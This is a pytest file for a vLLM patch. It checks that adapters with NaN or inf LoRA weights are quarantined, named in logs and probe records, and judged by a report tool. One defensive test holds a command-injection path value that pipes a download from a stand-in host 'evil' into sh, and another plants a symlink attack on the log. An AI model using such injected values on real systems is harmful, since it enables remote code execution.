"""The torch LoRA path names the adapter it quarantines: which adapter, which tensor.

An adapter with a non-finite weight is loaded through vLLM's real code of each
release family: the worker's add_adapter as the patch leaves it (its hook tells
the path which request it loads), LoRAModelManager.activate_adapter and
_get_lora_layer_weights, the layers' real set_lora/reset_lora, the wrapper that
adopts them. Stand-ins, each said where it is made: the LoRARequest and the
LoRAModel (plain objects with their attributes and get_lora), the manager's
logger (its debug calls), the type names the methods' annotations and
isinstance checks name. With nan-probe's real module on, its writer puts the
quarantine record in the log, and `patchkit probe report` judges by it.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import logging
import sys
import types
import typing
from pathlib import Path

import pytest

from tests.conftest import (
    TORCH_PATH_FAMILIES,
    created_source,
    module_from_source,
    patched_text,
    release_tree,
    run_cli,
)
from tests.helpers import record, write_log
from tests.punica_harness import PATCH, Layer, installed, load_wrapper_module, methods

torch = pytest.importorskip("torch", reason="the torch LoRA path needs torch (the test extra)")
TorchDispatchMode = pytest.importorskip("torch.utils._python_dispatch").TorchDispatchMode

# every family of worker_manager.py's add_adapter (0.28 wraps it in gpu_sync_allowed)
# and of activate_adapter (0.19 logs per module, 0.30 counts, 0.31 classifier heads)
FAMILIES = ["0.17.0", "0.19.1", "0.22.0", "0.26.0", "0.28.0", "0.30.0", "0.31.0", "0.32.0"]
HIDDEN, RANK, SLOTS = 96, 8, 4
# module -> slice widths, in the model's order: what activate_adapter walks
MODULES = {
    "model.layers.0.self_attn.qkv_proj": (64, 32, 32),
    "model.layers.0.mlp.down_proj": (HIDDEN,),
    "model.layers.1.mlp.shared_expert.gate_up_proj": (48, 48),
    "model.layers.1.mlp.shared_expert.down_proj": (HIDDEN,),
    "model.layers.2.mlp.down_proj": (HIDDEN,),
}
PACKED = {"qkv_proj": ["q_proj", "k_proj", "v_proj"], "gate_up_proj": ["gate_proj", "up_proj"]}
LINE = (
    "patchkit LoRA torch path: adapter 'poison-shared' (id 2): layer 1 "
    "mlp.shared_expert.down_proj lora_B has non-finite values (3 inf); its requests get "
    "NaN, other requests are not affected; check it with "
    "`patchkit adapter check /adapters/poison-shared`"
)


def weights(seed: int, poison: dict | None = None) -> dict:
    """module -> (A list, B list) of one adapter; ``poison``: module -> (slice, 'A'/'B',
    values written at the first positions)."""
    gen = torch.Generator().manual_seed(seed)
    found = {}
    for name, widths in MODULES.items():
        a = [(torch.randn(RANK, HIDDEN, generator=gen) / 10).to(torch.bfloat16) for _ in widths]
        b = [(torch.randn(w, RANK, generator=gen) / 10).to(torch.bfloat16) for w in widths]
        if poison and name in poison:
            index, which, values = poison[name]
            target = (a if which == "A" else b)[index].view(-1)
            target[: len(values)] = torch.tensor(values)
        found[name] = (a, b)
    return found


class Manager:
    """A LoRAModelManager's state, with the release's real activate_adapter and
    _get_lora_layer_weights bound to it."""

    def __init__(self, version: str, punica_gpu):
        text = (release_tree(version) / "vllm/lora/model_manager.py").read_text()
        quiet = types.SimpleNamespace(
            debug=lambda *a, **k: None, debug_once=lambda *a, **k: None,
            info_once=lambda *a, **k: None,
        )  # fmt: skip
        names = {"logger": quiet, "LoRAModel": object, "LoRALayerWeights": object,
                 "ClassificationHeadWithLoRA": type("NoClassifierHead", (), {})}  # fmt: skip
        found = methods(text, "model_manager.py", "LoRAModelManager",
                        ("activate_adapter", "_get_lora_layer_weights"), names)  # fmt: skip
        for name, function in found.items():
            setattr(self, name, function.__get__(self))
        wrapper = punica_gpu.PunicaWrapperGPU(
            256, 8, "cpu", lora_config=types.SimpleNamespace(
                max_loras=SLOTS, specialize_active_lora=False, max_lora_rank=128)
        )  # fmt: skip
        self.wrapper = wrapper
        self.modules = {}
        for name, widths in MODULES.items():
            layer = Layer(version, widths, SLOTS, RANK, HIDDEN)
            layer.set_mapping(wrapper)
            self.modules[name] = layer
        self.packed_modules_mapping = PACKED
        self.is_pooling_model = False
        self._active_adapters: dict = {}
        self._registered_adapters: dict = {}
        self.lora_index_to_id = [None] * SLOTS

    def register(self, adapter_id: int, loras: dict) -> None:
        """A loaded LoRAModel (stand-in: its id and get_lora over module weights)."""
        found = {n: types.SimpleNamespace(lora_a=a if len(a) > 1 else a[0],
                                          lora_b=b if len(b) > 1 else b[0])
                 for n, (a, b) in loras.items()}  # fmt: skip
        self._registered_adapters[adapter_id] = types.SimpleNamespace(
            id=adapter_id, get_lora=found.get
        )

    def get_adapter(self, adapter_id: int):
        return self._registered_adapters.get(adapter_id)

    def list_adapters(self):
        return self._registered_adapters


class Worker:
    """An LRUCacheWorkerLoRAManager whose add_adapter is the release's, as the patch
    leaves it (every adapter is registered already: its loading from disk is vLLM's)."""

    def __init__(self, version: str, manager: Manager):
        text = patched_text(version, PATCH, "vllm/lora/worker_manager.py")
        names = {"LoRARequest": object, "Any": typing.Any,
                 "gpu_sync_allowed": contextlib.nullcontext}  # fmt: skip
        found = methods(text, "worker_manager.py", "LRUCacheWorkerLoRAManager",
                        ("add_adapter",), names)  # fmt: skip
        self.add_adapter = found["add_adapter"].__get__(self)
        self._adapter_manager = manager

    def list_adapters(self):
        return set(self._adapter_manager.list_adapters())


def request(name: str, adapter_id: int):
    """A LoRARequest's attributes (stand-in)."""
    return types.SimpleNamespace(lora_name=name, lora_int_id=adapter_id,
                                 lora_path=f"/adapters/{name}", load_inplace=False)  # fmt: skip


@pytest.fixture
def served(request, tmp_path, monkeypatch):
    version = request.param
    with installed(version, tmp_path, monkeypatch):
        punica_gpu = load_wrapper_module(version, tmp_path)
        manager = Manager(version, punica_gpu)
        yield version, manager, Worker(version, manager)


def shared_expert_poison() -> dict:
    """inf x3 in layer 1's shared_expert.down_proj lora_B, NaN in layer 2's lora_A."""
    return weights(2, {
        "model.layers.1.mlp.shared_expert.down_proj": (0, "B", [float("inf")] * 3),
        "model.layers.2.mlp.down_proj": (0, "A", [float("nan")]),
    })  # fmt: skip


def quarantine_lines(caplog) -> list[str]:
    return [r.getMessage() for r in caplog.records if "patchkit LoRA torch path" in r.getMessage()]


@pytest.mark.parametrize("served", ["0.26.0"], indirect=True)
def test_the_logged_command_takes_a_tenants_path_as_one_shell_word(served, caplog):
    """lora_path comes from whoever called /v1/load_lora_adapter: pasted from the log,
    the command must not run what the path holds."""
    import shlex

    version, manager, worker = served
    manager.register(2, shared_expert_poison())
    hostile = types.SimpleNamespace(lora_name="poison-shared", lora_int_id=2,
                                    lora_path="/srv/x;curl${IFS}evil|sh;#",
                                    load_inplace=False)  # fmt: skip
    with caplog.at_level(logging.WARNING):
        worker.add_adapter(hostile)
    [line] = quarantine_lines(caplog)
    command = line.rsplit("`", 2)[1]
    assert shlex.split(command) == ["patchkit", "adapter", "check", hostile.lora_path]


@pytest.mark.parametrize("served", FAMILIES, indirect=True)
def test_the_first_bad_tensor_in_layer_order_is_named_once_per_load(served, caplog):
    """Layer 1's shared-expert down_proj lora_B (3 inf) is named, by the adapter's name,
    id and path, in one line; layer 2's NaN later in the same load is not a second
    line; the slot is quarantined all the same (its weight NaN, the values zeroed)."""
    version, manager, worker = served
    manager.register(1, weights(1))
    manager.register(2, shared_expert_poison())
    with caplog.at_level(logging.WARNING):
        worker.add_adapter(request("healthy", 1))
        assert quarantine_lines(caplog) == []
        worker.add_adapter(request("poison-shared", 2))
        worker.add_adapter(request("poison-shared", 2))  # active already: no load, no line
    assert quarantine_lines(caplog) == [LINE]
    slot = manager.lora_index_to_id.index(2)
    masks = manager.wrapper.patchkit_token_masks
    assert torch.isnan(masks.health[slot]) and masks.health[manager.lora_index_to_id.index(1)] == 1
    for layer in manager.modules.values():
        assert all(torch.isfinite(w[slot]).all() for w in (*layer.lora_a_stacked,
                                                           *layer.lora_b_stacked))  # fmt: skip


@contextlib.contextmanager
def host_reads(monkeypatch):
    """Count every read of a tensor's value on the host (bool, int, float, item, tolist):
    on a GPU each is a sync that waits for all the copies queued before it."""
    counted = []
    for name in ("__bool__", "__int__", "__float__", "item", "tolist"):
        original = getattr(torch.Tensor, name)

        def read(self, *args, _original=original, _name=name, **kwargs):
            counted.append(_name)
            return _original(self, *args, **kwargs)

        monkeypatch.setattr(torch.Tensor, name, read)
    yield counted
    monkeypatch.undo()


def assert_quarantined(manager, adapter_id: int, module: str) -> None:
    """The adapter's slot is marked bad (its weight NaN) and `module`'s A and B in that
    slot hold only finite values (the bad ones zeroed)."""
    slot = manager.lora_index_to_id.index(adapter_id)
    layer = manager.modules[module]
    assert torch.isnan(manager.wrapper.patchkit_token_masks.health[slot])
    for stacked in (*layer.lora_a_stacked, *layer.lora_b_stacked):
        assert torch.isfinite(stacked[slot]).all()


@pytest.mark.parametrize("served", FAMILIES, indirect=True)
def test_an_adapter_load_reads_its_layers_checks_in_one_host_sync(served, monkeypatch):
    """vLLM's activate_adapter sets five LoRA layers; their checks are read once, when it
    returns, not once a layer (a read waits for vLLM's non_blocking copies into the
    slot, so per layer the host waited layer by layer); an adapter already active reads
    nothing."""
    version, manager, worker = served
    manager.register(1, weights(1))
    with host_reads(monkeypatch) as counted:
        worker.add_adapter(request("healthy", 1))
        loaded = list(counted)
        worker.add_adapter(request("healthy", 1))
    assert loaded == ["tolist"]
    assert counted == loaded
    masks = manager.wrapper.patchkit_token_masks
    assert masks.health[manager.lora_index_to_id.index(1)] == 1


class OneElementCopies(TorchDispatchMode):
    """Count copies into 0-dim tensors: `t[i] = value` on a CUDA tensor copies the value
    from a host tensor, a blocking copy that waits for every copy queued before it (on
    CPU the same write dispatches the same copy_, so it is counted here)."""

    def __init__(self):
        super().__init__()
        self.counted = 0

    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        if func is torch.ops.aten.copy_.default and args[0].dim() == 0:
            self.counted += 1
        return func(*args, **(kwargs or {}))


@pytest.mark.parametrize("served", FAMILIES, indirect=True)
def test_an_adapter_load_copies_no_host_value_into_a_slots_health(served):
    """vLLM's set_lora calls reset_lora before it queues its copies, and both mark the
    slot's health; marked by a copy from the host, each layer waited there for the
    copies of the layers before it (the H200 profile: 184 syncs a reload). A fill does
    not wait; the health still reads 1 for a good adapter and NaN for a bad one. The
    third adapter trains all but one layer, which activate_adapter resets instead."""
    version, manager, worker = served
    manager.register(1, weights(1))
    manager.register(2, shared_expert_poison())
    partial = weights(3)
    del partial["model.layers.2.mlp.down_proj"]
    manager.register(3, partial)
    with OneElementCopies() as copies:
        worker.add_adapter(request("healthy", 1))
        worker.add_adapter(request("poison-shared", 2))
        worker.add_adapter(request("partial", 3))
    assert copies.counted == 0
    masks = manager.wrapper.patchkit_token_masks
    assert masks.health[manager.lora_index_to_id.index(1)] == 1
    assert masks.health[manager.lora_index_to_id.index(3)] == 1
    assert_quarantined(manager, 2, "model.layers.1.mlp.shared_expert.down_proj")


@pytest.mark.parametrize("served", TORCH_PATH_FAMILIES, indirect=True)
def test_a_load_that_fails_midway_still_quarantines_the_layers_it_set(served, caplog):
    """A set_lora that raises partway through activate_adapter: the layers set before it
    are settled all the same, the bad one zeroed, its slot's weight NaN and the tensor
    named; the error reaches the caller."""
    version, manager, worker = served
    manager.register(2, shared_expert_poison())
    failing = manager.modules["model.layers.2.mlp.down_proj"]

    def refuse(*args, **kwargs):
        raise RuntimeError("no room")

    failing.set_lora = refuse
    with caplog.at_level(logging.WARNING), pytest.raises(RuntimeError, match="no room"):
        worker.add_adapter(request("poison-shared", 2))
    assert quarantine_lines(caplog) == [LINE]
    assert_quarantined(manager, 2, "model.layers.1.mlp.shared_expert.down_proj")


@pytest.mark.parametrize("served", TORCH_PATH_FAMILIES, indirect=True)
def test_a_set_lora_that_raises_after_writing_a_is_checked_all_the_same(served):
    """A NaN in lora_A and a lora_B too wide for the slot: vLLM's set_lora writes A,
    then raises on B, and the adapter counts as active; its written A is still checked,
    zeroed and the slot marked bad, so no other row reads the NaN."""
    version, manager, worker = served
    found = weights(3, {"model.layers.0.mlp.down_proj": (0, "A", [float("nan")])})
    a, b = found["model.layers.0.mlp.down_proj"]
    found["model.layers.0.mlp.down_proj"] = (a, [torch.zeros(b[0].size(0) + 5, RANK,
                                                             dtype=b[0].dtype)])  # fmt: skip
    manager.register(3, found)
    with pytest.raises(RuntimeError):
        worker.add_adapter(request("too-wide", 3))
    assert_quarantined(manager, 3, "model.layers.0.mlp.down_proj")


@pytest.mark.parametrize("served", ["0.26.0"], indirect=True)
def test_an_error_naming_one_bad_layer_still_settles_the_layers_after_it(served, monkeypatch):
    """Settling layer 1's quarantine raises (its record could not be written): layer 2,
    written in the same activation, is still zeroed; then the error reaches the caller."""
    version, manager, worker = served
    manager.register(2, shared_expert_poison())
    module = sys.modules[type(manager.wrapper).__module__]
    matmul = sys.modules[module.__name__.rsplit(".", 1)[0] + ".patchkit_lora_matmul"]

    def refuse(event):
        raise MemoryError("no room for the record")

    monkeypatch.setattr(matmul, "_to_probe_log", refuse)
    with pytest.raises(MemoryError):
        worker.add_adapter(request("poison-shared", 2))
    assert_quarantined(manager, 2, "model.layers.2.mlp.down_proj")


@pytest.mark.parametrize("served", TORCH_PATH_FAMILIES, indirect=True)
def test_a_packed_slice_is_named_as_the_adapter_names_it(served, caplog):
    """gate_up_proj's second slice is up_proj in the adapter's files; a NaN in A is
    counted as NaN; a later load of the adapter (after eviction) says it again."""
    version, manager, worker = served
    manager.register(3, weights(3, {
        "model.layers.1.mlp.shared_expert.gate_up_proj": (1, "A", [float("nan")] * 2),
    }))  # fmt: skip
    with caplog.at_level(logging.WARNING):
        worker.add_adapter(request("bad-up", 3))
        manager._active_adapters.pop(3)  # evicted from its slot, then requested again
        manager.lora_index_to_id[manager.lora_index_to_id.index(3)] = None
        worker.add_adapter(request("bad-up", 3))
    lines = quarantine_lines(caplog)
    assert len(lines) == 2 and lines[0] == lines[1]
    assert "adapter 'bad-up' (id 3): layer 1 mlp.shared_expert.up_proj lora_A" in lines[0]
    assert "(2 nan)" in lines[0]


@pytest.mark.parametrize("served", ["0.26.0"], indirect=True)
def test_a_set_lora_outside_add_adapter_names_the_slot_only(served, caplog):
    """No add_adapter announced this load (another path of vLLM): the line says what is
    known, the slot and the counts, never another adapter's name."""
    version, manager, worker = served
    manager.register(1, weights(1))
    worker.add_adapter(request("healthy", 1))
    layer = manager.modules["model.layers.0.mlp.down_proj"]
    bad = weights(4, {"model.layers.0.mlp.down_proj": (0, "B", [float("inf")])})
    a, b = bad["model.layers.0.mlp.down_proj"]
    with caplog.at_level(logging.WARNING):
        layer.set_lora(3, a[0], b[0])
    [line] = quarantine_lines(caplog)
    assert "the adapter in slot 3 has non-finite weights (1 inf)" in line
    assert "healthy" not in line


# ----- with nan-probe on: the record, and the report on it -----

PROBE_MODULE = "vllm/v1/worker/patchkit_nan_probe.py"
DATA = Path(__file__).parent / "data"


def probe_on(monkeypatch, tmp_path):
    """nan-probe's real module under its vLLM name, its probe on, logging to tmp_path."""
    probe = module_from_source(
        "patchkit_nan_probe", created_source("nan-probe", PROBE_MODULE), tmp_path
    )
    worker = types.ModuleType("vllm.v1.worker")
    worker.__path__, worker.patchkit_nan_probe = [], probe
    for name, module in (("vllm.v1", types.ModuleType("vllm.v1")), ("vllm.v1.worker", worker),
                         ("vllm.v1.worker.patchkit_nan_probe", probe)):  # fmt: skip
        monkeypatch.setitem(sys.modules, name, module)
    log = tmp_path / "logs" / "probe.jsonl"
    log.parent.mkdir(mode=0o700)
    slots = [probe.Slot(0, 0, "input", "input")]
    monkeypatch.setattr(probe, "_PROBE", probe.Probe(str(log), False, 8, torch.device("cpu"),
                                                     slots))  # fmt: skip
    return probe, log


@pytest.mark.parametrize("served", ["0.26.0"], indirect=True)
def test_the_quarantine_writes_one_record_through_the_probes_writer(served, monkeypatch,
                                                                     tmp_path):  # fmt: skip
    version, manager, worker = served
    probe, log = probe_on(monkeypatch, tmp_path)
    manager.register(1, weights(1))
    manager.register(2, shared_expert_poison())
    worker.add_adapter(request("healthy", 1))
    worker.add_adapter(request("poison-shared", 2))
    [line] = log.read_text().splitlines()
    entry = json.loads(line)
    assert entry.pop("time") > 0
    assert entry == {
        "event": "quarantine", "rank": 0, "adapter": "poison-shared", "adapter_id": 2,
        "adapter_path": "/adapters/poison-shared", "slot": manager.lora_index_to_id.index(2),
        "layer": 1, "module": "mlp.shared_expert.down_proj", "tensor": "lora_B", "nan": 0,
        "inf": 3,
    }  # fmt: skip


@pytest.mark.parametrize("served", ["0.26.0"], indirect=True)
def test_a_log_that_is_a_link_gets_no_record(served, monkeypatch, tmp_path, capfd):
    """The record goes through the probe's hardened open: a link planted at the log's
    name is refused (one stderr line), nothing is written through it, serving goes on."""
    version, manager, worker = served
    probe, log = probe_on(monkeypatch, tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.write_text("")
    log.symlink_to(elsewhere)
    manager.register(2, shared_expert_poison())
    worker.add_adapter(request("poison-shared", 2))
    assert elsewhere.read_text() == ""
    assert "symbolic link" in capfd.readouterr().err
    assert probe._PROBE.log_failed


def torch_cudagraph_log(tmp_path, with_quarantine: dict | None):
    """The H200's torch-path log (adapter 'poisoned'), with a quarantine record as the
    path writes it inserted after its header."""
    lines = (
        gzip.decompress((DATA / "h200-2026-12-01-probe-torch-cudagraph.jsonl.gz").read_bytes())
        .decode()
        .splitlines()
    )
    if with_quarantine is not None:
        lines.insert(1, json.dumps(with_quarantine))
    path = tmp_path / "probe.jsonl"
    path.write_text("\n".join(lines) + "\n")
    return path


QUARANTINE = {
    "event": "quarantine", "rank": 0, "time": 1.0, "adapter": "poisoned", "adapter_id": 3,
    "adapter_path": "/work/poisoned", "slot": 2, "layer": 1, "module": "mlp.down_proj",
    "tensor": "lora_B", "nan": 0, "inf": 1,
}  # fmt: skip


def report_json(path) -> dict:
    result = run_cli("probe", "report", str(path), "--json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_the_report_names_the_quarantined_tensor_not_layer_0(tmp_path):
    """The H200's torch-path log went bad at layer 0's first projection; with the
    quarantine record the report names layer 1's lora_B and the command, in text and
    JSON; without it, the same log is judged as before."""
    found = report_json(torch_cudagraph_log(tmp_path, QUARANTINE))
    [finding] = found["affected_requests"]
    assert (finding["adapter"], finding["layer"], finding["module"], finding["tensor"]) == (
        "poisoned", 1, "mlp.down_proj", "lora_B"
    )  # fmt: skip
    assert finding["command"] == "patchkit adapter check /work/poisoned"
    assert finding["verdict"].startswith(
        "adapter 'poisoned' (id 3) was quarantined at load: layer 1 mlp.down_proj lora_B has "
        "non-finite values (1 inf)"
    )
    assert "here layer 0, linear_attn.in_proj_qkvz" in finding["verdict"]
    assert "`patchkit adapter check /work/poisoned`" in finding["look_at"]
    assert finding["reason"]["code"] == "probe-quarantined"
    assert finding["reason"]["quarantine"]["command"] == finding["command"]
    [listed] = found["quarantines"]
    assert (listed["adapter"], listed["layer"], listed["tensor"]) == ("poisoned", 1, "lora_B")
    assert (listed["code"], listed["inf"]) == ("probe-quarantine", 1)
    text = run_cli("probe", "report", str(tmp_path / "probe.jsonl")).stdout
    assert "quarantined at load: adapter 'poisoned' (id 3): layer 1 mlp.down_proj lora_B" in text
    assert "first bad at" not in text
    plain = report_json(torch_cudagraph_log(tmp_path, None))
    [finding] = plain["affected_requests"]
    assert (finding["layer"], finding["module"], finding["tensor"]) == (
        0, "linear_attn.in_proj_qkvz", None
    )  # fmt: skip
    assert plain["quarantines"] == []


def test_a_quarantine_judges_only_its_adapters_requests_after_it(tmp_path):
    """Another adapter's bad request, and a request of the quarantined one logged before
    the record (another server start, before its header), keep the decision tree."""
    header = {"probe": "nan-probe", "format": 1, "rank": 0, "stats": False, "slots": []}
    log = write_log(
        tmp_path,
        header,
        record(1, 0, "self_attn.qkv_proj", "lora", ["x"], order=0, adapters={"x": "poisoned"}),
        header,
        QUARANTINE,
        record(
            4,
            0,
            "self_attn.qkv_proj",
            "lora",
            ["a", "b"],
            order=0,
            adapters={"a": "poisoned", "b": "other"},
        ),  # fmt: skip
    )
    found = {f["request"]: f for f in report_json(log)["affected_requests"]}
    assert found["a"]["tensor"] == "lora_B" and found["a"]["layer"] == 1
    assert found["b"]["tensor"] is None and found["b"]["module"] == "self_attn.qkv_proj"
    assert found["x"]["tensor"] is None


@pytest.mark.parametrize(
    "change",
    [{"tensor": "lora_C"}, {"inf": -1}, {"adapter_id": "3"}, {"layer": True},
     {"module": ""}, {"adapter_path": ""}, {"tensor": "x" * 5000}, {"adapter": ["y" * 5000]}],
)  # fmt: skip
def test_a_quarantine_record_of_the_wrong_shape_is_one_line_naming_it(tmp_path, change):
    """One line, which quotes at most 80 characters of the field (not a 5 kB value)."""
    log = write_log(tmp_path, {**QUARANTINE, **change})
    result = run_cli("probe", "report", str(log))
    assert result.exit_code == 1
    assert f"{log}:1: " in result.output and "quarantine record" in result.output
    assert "Traceback" not in result.output
    assert len(result.output) < len(str(log)) + 250, result.output


LONG_NAME = "tenant-" + "n" * 4993  # vLLM's lora_name has no limit


def test_a_long_adapter_name_and_path_are_cut_and_judged_not_a_refusal(tmp_path):
    """One adapter named with 5000 characters must not make the report refuse the log
    (hiding every other request's finding): its name is cut to 200 characters with
    its length and a hash, its path to 4096, and its requests are still judged by
    its quarantine, the full name on a step's record matching the cut one."""
    long_path = "/adapters/" + "p" * 4990
    log = write_log(
        tmp_path,
        {"probe": "nan-probe", "format": 1, "rank": 0, "stats": False, "slots": []},
        {**QUARANTINE, "adapter": LONG_NAME, "adapter_path": long_path},
        record(4, 0, "self_attn.qkv_proj", "lora", ["a", "b"], order=0,
               adapters={"a": LONG_NAME, "b": "other"}),
    )  # fmt: skip
    found = report_json(log)
    by_request = {f["request"]: f for f in found["affected_requests"]}
    assert by_request["b"]["module"] == "self_attn.qkv_proj"  # the other finding is there
    cut = by_request["a"]["adapter"]
    assert len(cut) == 200 and cut.startswith("tenant-nnn") and "...[5000 chars, sha256 " in cut
    assert by_request["a"]["tensor"] == "lora_B"  # judged by its quarantine
    [listed] = found["quarantines"]
    assert listed["adapter"] == cut
    assert (
        len(listed["adapter_path"]) == 4096 and "...[5000 chars, sha256 " in listed["adapter_path"]
    )
    text = run_cli("probe", "report", str(log))
    assert text.exit_code == 0 and LONG_NAME not in text.stdout


def test_two_long_names_with_one_start_stay_two_adapters(tmp_path):
    """The cut keeps a hash of the whole name: the quarantine of one long name does not
    judge the requests of another that shares its first 200 characters."""
    other = LONG_NAME[:-1] + "m"
    log = write_log(
        tmp_path,
        {"probe": "nan-probe", "format": 1, "rank": 0, "stats": False, "slots": []},
        {**QUARANTINE, "adapter": LONG_NAME},
        record(4, 0, "self_attn.qkv_proj", "lora", ["a", "b"], order=0,
               adapters={"a": LONG_NAME, "b": other}),
    )  # fmt: skip
    by_request = {f["request"]: f for f in report_json(log)["affected_requests"]}
    assert by_request["a"]["tensor"] == "lora_B"
    assert by_request["b"]["tensor"] is None
    assert by_request["a"]["adapter"] != by_request["b"]["adapter"]


@pytest.mark.parametrize("served", ["0.26.0"], indirect=True)
def test_the_record_cuts_a_long_name_and_path_as_the_report_does(served, monkeypatch, tmp_path):
    """The writer bounds what a tenant named before it writes: the record's name and
    path are the report's own cut of them (so the two match, and stay cut)."""
    from patchkit.probe.report import MAX_ADAPTER_NAME, MAX_PATH, bounded

    version, manager, worker = served
    probe, log = probe_on(monkeypatch, tmp_path)
    manager.register(2, shared_expert_poison())
    lora = request(LONG_NAME, 2)
    lora.lora_path = "/adapters/" + "p" * 9990
    worker.add_adapter(lora)
    [line] = log.read_text().splitlines()
    entry = json.loads(line)
    assert entry["adapter"] == bounded(LONG_NAME, MAX_ADAPTER_NAME)
    assert entry["adapter_path"] == bounded(lora.lora_path, MAX_PATH)
    assert len(entry["adapter"]) == 200 and len(entry["adapter_path"]) == 4096
    assert bounded(entry["adapter"], MAX_ADAPTER_NAME) == entry["adapter"]
